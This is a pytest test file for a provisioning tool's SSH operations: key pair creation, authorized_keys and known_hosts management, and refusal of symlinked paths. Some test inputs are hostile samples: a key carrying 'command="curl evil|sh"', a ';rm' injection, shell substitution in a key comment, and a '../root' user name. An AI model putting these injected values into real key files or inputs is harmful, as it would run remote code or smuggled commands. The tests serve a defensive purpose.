"""SSH key pair, authorized keys and known_hosts operations as data."""

import pytest

from provision.errors import ArgumentError
from provision.operations import OPERATIONS
from provision.operations.base import UNKNOWN, FileState, OperationError, Run, StateKey, UserEntry, Write
from provision.operations.ssh import add_keys, keypair_result, set_node_keys

ALICE = UserEntry("alice", 2001, 2001, "/home/alice", "/bin/bash")
K1 = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHc0Hf9YtWXxg0kd0Q8H2yAJ3Pj4AB alice@node1"
K2 = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ7MZi5r4mUDn7n8bWqH7TvkUYn9CD alice@node2"


def plan(op, args, facts):
    operation = OPERATIONS[op]
    return operation.plan(operation.check_args(args), facts)


def text_file(text, mode=0o600, owner="alice"):
    import hashlib

    data = text.encode()
    return FileState("f", mode, owner, "alice", hashlib.sha256(data).hexdigest(), data)


AUTH = StateKey("file", "~alice/.ssh/authorized_keys")
PRIV, PUB = StateKey("stat", "~alice/.ssh/id_ed25519"), StateKey("file", "~alice/.ssh/id_ed25519.pub")
USER = StateKey("user", "alice")


def test_keypair_generated_when_absent():
    (change,) = plan("ssh_keypair", {"user": "alice"}, {USER: ALICE, PRIV: None, PUB: None})
    assert isinstance(change, Run)
    assert "ssh-keygen -q -t ed25519 -N ''" in change.command and "chmod 600" in change.command
    assert "install -d -m 700 -o alice -g 2001" in change.command


def test_private_key_is_only_stat_ed_never_read():
    """The private key never leaves the node: its fact is a stat (no content), the public key is read."""
    from provision.operations.state import state_command

    keys = OPERATIONS["ssh_keypair"].requests(OPERATIONS["ssh_keypair"].check_args({"user": "alice"}))
    assert PRIV in keys and PUB in keys and StateKey("file", PRIV.arg) not in keys
    command = state_command(PRIV)
    assert "base64" not in command and "cat " not in command and "sha256sum" not in command
    (change,) = plan("ssh_keypair", {"user": "alice"}, {USER: ALICE, PRIV: None, PUB: None})
    assert (PRIV, UNKNOWN) in change.effects


def test_existing_keypair_kept():
    assert (
        plan("ssh_keypair", {"user": "alice"}, {USER: ALICE, PRIV: FileState("f", 0o600, "alice", "alice"), PUB: text_file(K1)})
        == []
    )


def test_keypair_result_is_the_public_key():
    assert keypair_result({"user": "alice"}, {PUB: text_file(K1 + "\n")})["public_key"] == K1


def test_keypair_needs_the_user():
    with pytest.raises(OperationError, match="does not exist"):
        plan("ssh_keypair", {"user": "alice"}, {USER: None})


def test_authorized_keys_added_once_other_lines_kept():
    existing = '# my notes\nfrom="10.0.0.1" ' + K1.replace("alice@node1", "old-comment") + "\n"
    (change,) = plan("authorized_key", {"user": "alice", "keys": [K1, K2, K2]}, {USER: ALICE, AUTH: text_file(existing)})
    assert isinstance(change, Write) and change.mode == 0o600 and change.owner == "alice"
    assert change.content.decode() == existing + K2 + "\n"


def test_authorized_keys_converged():
    assert (
        plan("authorized_key", {"user": "alice", "keys": [K1, K2]}, {USER: ALICE, AUTH: text_file(K1 + "\n" + K2 + "\n")}) == []
    )


def test_authorized_keys_mode_fixed():
    (change,) = plan("authorized_key", {"user": "alice", "keys": K1}, {USER: ALICE, AUTH: text_file(K1 + "\n", 0o644)})
    assert change.command.startswith("chmod 0600")


def test_add_keys_keeps_missing_newline():
    assert add_keys("x", [K1]) == "x\n" + K1 + "\n"


def test_known_hosts_block():
    entries = [{"names": ["node1", "node1.cluster", "10.0.0.1", "node1"], "keys": [K1]}]
    before = "# user line\nother ssh-rsa AAAA\n"
    (change,) = plan(
        "known_hosts", {"entries": entries}, {StateKey("file", "/etc/ssh/ssh_known_hosts"): text_file(before, 0o644, "root")}
    )
    kind, blob = K1.split()[:2]
    assert change.content.decode() == (
        before + f"# BEGIN provision known hosts\nnode1,node1.cluster,10.0.0.1 {kind} {blob}\n# END provision known hosts\n"
    )
    converged = {StateKey("file", "/etc/ssh/ssh_known_hosts"): text_file(change.content.decode(), 0o644, "root")}
    assert plan("known_hosts", {"entries": entries}, converged) == []


@pytest.mark.parametrize(
    "op,args",
    [
        ("authorized_key", {"user": "alice", "keys": "not a key"}),
        ("authorized_key", {"user": "alice", "keys": K1 + '\ncommand="x" ' + K2}),
        ("known_hosts", {"entries": [{"names": ["a b"], "keys": [K1]}]}),
        ("known_hosts", {"entries": [{"names": ["node1"], "keys": ["ssh-ed25519 AAAA;rm"]}]}),
        ("ssh_keypair", {"user": "../root"}),
    ],
)
def test_bad_arguments(op, args):
    with pytest.raises(ArgumentError):
        plan(op, args, {USER: ALICE, AUTH: None, StateKey("file", "/etc/ssh/ssh_known_hosts"): None})


def test_keypair_result_from_a_hostile_node():
    hostile = 'command="curl evil|sh" ' + K1
    assert keypair_result({"user": "alice"}, {PUB: text_file(hostile)})["public_key"] is None
    odd = K1.replace("alice@node1", "alice@node1 $(x) `y`")
    assert keypair_result({"user": "alice"}, {PUB: text_file(odd)})["public_key"] == K1.replace("alice@node1", "alice@node1xy")


@pytest.mark.parametrize("kind", ["l", "h", "u"])
def test_links_in_ssh_paths_refused(kind):
    bad = FileState(kind, 0o777, "alice", "alice", below="/home/alice" if kind == "u" else None)
    cases = [
        ("ssh_keypair", {"user": "alice"}, {USER: ALICE, PRIV: bad, PUB: None}, "~alice/.ssh/id_ed25519 "),
        ("ssh_keypair", {"user": "alice"}, {USER: ALICE, PRIV: text_file("k"), PUB: bad}, "~alice/.ssh/id_ed25519.pub "),
        ("authorized_key", {"user": "alice", "keys": [K1]}, {USER: ALICE, AUTH: bad}, "~alice/.ssh/authorized_keys "),
        ("known_hosts", {"entries": []}, {StateKey("file", "/etc/ssh/ssh_known_hosts"): bad}, "/etc/ssh/ssh_known_hosts "),
    ]
    for op, args, facts, prefix in cases:
        operation = OPERATIONS[op]
        with pytest.raises(OperationError, match="refused$") as error:
            operation.decide(operation.check_args(args), facts)
        assert str(error.value).startswith(prefix)


def test_keypair_commands_never_chown_through_a_name():
    (change,) = plan("ssh_keypair", {"user": "alice"}, {USER: ALICE, PRIV: None, PUB: None})
    assert "chown -h" in change.command and " chown alice" not in change.command


def test_keypair_rotated_on_request():
    present = {USER: ALICE, PRIV: FileState("f", 0o600, "alice", "alice"), PUB: text_file(K1)}
    (change,) = plan("ssh_keypair", {"user": "alice", "rotate": True}, present)
    assert change.describe == "rotate ssh key ~alice/.ssh/id_ed25519" and "ssh-keygen" in change.command
    assert "|| exit 0" not in change.command  # rotation replaces the key that is there
    (fresh,) = plan("ssh_keypair", {"user": "alice"}, {USER: ALICE, PRIV: None, PUB: None})
    assert fresh.command.startswith("[ ! -e ")  # a key another node wrote meanwhile (shared /home) is kept


M1 = K1 + " provision-node=node1"
M2 = K2 + " provision-node=node2"
K3 = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKq9qG3W7cF9vKJ0bW1e4zG2dXbqWQ8x alice@node3"

# (name, current authorized_keys, node_keys, wanted authorized_keys)
NODE_KEY_CASES = [
    ("fresh", "", {"node1": [K1], "node2": [K2]}, f"{M1}\n{M2}\n"),
    ("converged", f"{M1}\n{M2}\n", {"node1": [K1], "node2": [K2]}, f"{M1}\n{M2}\n"),
    ("node-left", f"# mine\n{M1}\n{M2}\n", {"node1": [K1]}, f"# mine\n{M1}\n"),
    ("node-unknown-kept", f"{M1}\n{M2}\n", {"node1": [K1], "node2": None}, f"{M1}\n{M2}\n"),
    ("rotated", f"{M1}\n{M2}\n", {"node1": [K3], "node2": [K2]}, f"{K3} provision-node=node1\n{M2}\n"),
    ("plain-copy-adopted", f"{K1}\n# mine\n", {"node1": [K1]}, f"# mine\n{M1}\n"),
    ("user-options-win", f'from="10.0.0.1" {K1}\n', {"node1": [K1]}, f'from="10.0.0.1" {K1}\n'),
    ("user-left-revoked", f"# mine\n{M1}\n{M2}\n", {}, "# mine\n"),
]


@pytest.mark.parametrize("case", NODE_KEY_CASES, ids=[c[0] for c in NODE_KEY_CASES])
def test_managed_lines_per_node(case):
    _id, current, node_keys, wanted = case
    assert set_node_keys(current, node_keys) == wanted
    facts = {USER: ALICE, AUTH: text_file(current) if current else None}
    changes = plan("authorized_key", {"user": "alice", "node_keys": node_keys}, facts)
    assert (changes == []) == (current == wanted)
    assert all(c.content.decode() == wanted for c in changes)


def test_keys_of_a_removed_user_nothing_to_do():
    assert plan("authorized_key", {"user": "alice", "node_keys": {}}, {USER: None, AUTH: None}) == []


HOSTS = StateKey("file", "/etc/ssh/ssh_known_hosts")


def test_known_hosts_per_node_left_unknown_and_replaced():
    kind, blob = K1.split()[:2]
    _, blob2 = K2.split()[:2]
    _, blob3 = K3.split()[:2]
    block = f"node1,10.0.0.1 {kind} {blob}\nnode2,10.0.0.2 {kind} {blob2}\nnode3,10.0.0.3 {kind} {blob3}\n"
    before = f"# mine\n# BEGIN provision known hosts\n{block}# END provision known hosts\n"
    entries = [
        {"node": "node1", "names": ["node1", "10.0.0.1"], "keys": [K3]},  # reinstalled: the new key replaces the old
        {"node": "node2", "names": ["node2"], "keys": None},  # down, never cached: its line is kept
    ]  # node3 left the inventory: its line goes
    (change,) = plan("known_hosts", {"entries": entries}, {HOSTS: text_file(before, 0o644, "root")})
    assert change.content.decode() == (
        f"# mine\n# BEGIN provision known hosts\nnode1,10.0.0.1 {kind} {blob3}\nnode2,10.0.0.2 {kind} {blob2}\n"
        "# END provision known hosts\n"
    )


def test_a_key_pair_made_in_this_run_is_foreseen_in_authorized_keys():
    """Issue 34: on fresh nodes --check did not foresee the change to mpi's authorized_keys (the
    node keys made in the same run were unknown, so its lines were kept as they are); a node whose
    key pair this run makes (its public key not read yet) is pending: the file is foreseen to
    change, and --diff says with which line."""
    from provision.templating.filters import node_keys

    hostvars = {
        "n1": {"user_keys": {"results": [{"user": "mpi", "changed": True, "public_key": None}]}},
        "n2": {"user_keys": {"results": [{"user": "mpi", "changed": False, "public_key": K2}]}},
        "n3": {"user_keys": {"results": [{"user": "mpi", "changed": True, "public_key": None, "error": "not one line"}]}},
    }
    keys = node_keys(hostvars, "user_keys", "mpi")
    assert keys == {"n1": "pending", "n2": [K2], "n3": None}
    mpi = UserEntry("mpi", 1000, 1000, "/home/mpi", "/bin/bash")
    auth = StateKey("file", "~mpi/.ssh/authorized_keys")
    [write] = plan(
        "authorized_key",
        {"user": "mpi", "node_keys": keys},
        {StateKey("user", "mpi"): mpi, auth: text_file("ssh-ed25519 AAAAC3Nza mine\n")},
    )
    assert write.content.decode() == (
        "ssh-ed25519 AAAAC3Nza mine\n# (the key pair made on n1 in this run: its public key) provision-node=n1\n"
        f"{K2} provision-node=n2\n"
    )
